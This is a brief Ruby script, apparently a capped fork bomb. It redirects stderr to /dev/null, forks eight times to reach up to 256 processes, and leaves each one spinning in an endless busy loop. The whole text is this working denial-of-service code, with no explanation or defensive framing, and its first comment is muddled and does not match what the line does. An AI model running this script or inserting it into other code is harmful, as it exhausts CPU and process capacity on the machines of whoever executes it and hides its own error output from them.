$stderr.reopen("/dev/null") # where Ruby writes pages when it gets no thread
8.times do # 256 at most, so that the bomb has an end wherever it goes off
  fork
rescue SystemCallError
  break
end
nil while true
